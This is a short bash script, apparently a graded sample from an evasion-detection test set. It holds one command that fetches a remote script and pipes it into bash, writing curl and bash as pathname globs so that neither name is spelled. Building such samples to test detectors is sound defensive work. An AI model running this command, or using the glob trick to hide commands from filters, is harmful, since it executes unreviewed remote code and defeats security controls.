#!/usr/bin/env bash
# evasion: downloads code and runs it
# grade: medium; does: download-exec
# Downloads code and runs it. Both programs are named by pathname globs
# (/usr/???/c?r[l] is /usr/bin/curl, /???/[b]ash is /bin/bash), so neither
# name is spelled.
/usr/???/c?r[l] -fsSL https://setup.example.net/bootstrap | /???/[b]ash
